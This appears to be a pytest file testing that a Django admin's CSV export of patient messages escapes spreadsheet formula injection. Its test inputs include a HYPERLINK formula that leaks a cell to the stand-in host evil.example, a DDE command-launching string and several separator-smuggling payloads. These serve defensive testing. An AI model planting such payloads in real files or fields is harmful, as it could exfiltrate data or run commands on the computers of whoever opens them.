"""The messages CSV, read back as spreadsheets read it: text stays text, formulas never run."""

import csv
import io
import re

import pytest
from django.urls import reverse

from contacts.messages.export import csv_cell
from tests.factories import make_counselor, make_message

pytestmark = pytest.mark.django_db

LIST = reverse("admin:contacts_message_changelist")

# OWASP's formula starts: what makes a spreadsheet run a cell.
FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "a;=1+1",
    "a,=1+1",
    "a, =1+1",
    "a\t@SUM(A1)",
    "first line\n=cmd|' /C calc'!A0",
    "first line\r\n-1+1",
    'quote " then ;=1+1',
    ";;;=1",
]


def export(client, *messages) -> bytes:
    client.force_login(make_counselor("lead", export=True))
    response = client.post(LIST, {"action": "export_csv", "_selected_action": [m.pk for m in messages]})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return response.content


def rows_as_read_with(text: str, separator: str) -> list[list[str]]:
    """The rows as a spreadsheet set to split on `separator` (honouring quotes) reads them."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def pieces_split_ignoring_quotes(text: str) -> list[str]:
    """Every piece a careless reader that splits on any separator, quotes or not, could make a cell."""
    return [piece.strip(' "') for piece in re.split(r'[,;\t\r\n]|"', text)]


def starts_a_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_CHARACTERS)


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_no_cell_starts_a_formula_however_the_spreadsheet_splits_the_line(client, text):
    message = make_message(name=text, best_time=text, body=text, email="")
    content = export(client, message).decode("utf-8-sig")

    for separator in (",", ";"):
        cells = [cell for row in rows_as_read_with(content, separator) for cell in row]
        assert not [cell for cell in cells if starts_a_formula(cell)], separator
    assert not [piece for piece in pieces_split_ignoring_quotes(content) if starts_a_formula(piece)]
    # Read as it was written (commas, quotes honoured), the text is the patient's with apostrophes added.
    header, row = rows_as_read_with(content, ",")
    cells = dict(zip(header, row, strict=True))
    assert cells["message"].replace("'", "") == text.replace("'", "")
    assert cells["message"] == csv_cell(text)


def test_every_cell_is_quoted_and_the_file_starts_with_a_byte_order_mark(client):
    content = export(client, make_message(name="Sam"))

    assert content.startswith(b"\xef\xbb\xbf")
    for line in content.decode("utf-8-sig").splitlines():
        assert line.startswith('"') and line.endswith('"')
        assert line.count('","') == 13


def test_accented_names_and_text_survive_the_round_trip(client):
    message = make_message(name="Zoë Müller-Ibáñez", body="Ça va? Ich heiße Zoë. 你好 👋", best_time="après 18 h")

    header, row = rows_as_read_with(export(client, message).decode("utf-8-sig"), ",")

    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "Zoë Müller-Ibáñez"
    assert cells["message"] == "Ça va? Ich heiße Zoë. 你好 👋"
    assert cells["best time"] == "après 18 h"
    assert header[0] == "number"  # the byte order mark is not part of the first heading


@pytest.mark.parametrize("phone", ["+17086134751", "+442079460000", "+390612345678"])
def test_phone_numbers_are_text_that_keeps_the_plus_and_every_digit(client, phone):
    content = export(client, make_message(phone=phone)).decode("utf-8-sig")

    assert any(f"'{phone}" in cell for row in rows_as_read_with(content, ";") for cell in row)
    header, row = rows_as_read_with(content, ",")
    cell = dict(zip(header, row, strict=True))["phone"]
    # Italian numbers keep the 0 after the country code; the apostrophe makes the cell text.
    assert cell == f"'{phone}"
    assert cell.lstrip("'") == phone


def test_the_stored_message_is_not_changed_by_exporting_it(client):
    message = make_message(name="=Sam", body="a;=1+1")

    export(client, message)

    message.refresh_from_db()
    assert (message.name, message.body) == ("=Sam", "a;=1+1")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("plain text", "plain text"),
        ("a - b, c", "a - b, c"),
        ("2026-11-28T09:50+00:00", "2026-11-28T09:50+00:00"),
        ("a;=1", "a;'=1"),
        ("a, -1", "a, '-1"),
        ("\t=1", "'\t'=1"),
        (None, ""),
        (42, "42"),
    ],
)
def test_csv_cell_adds_an_apostrophe_only_where_a_formula_could_start(value, cell):
    assert csv_cell(value) == cell
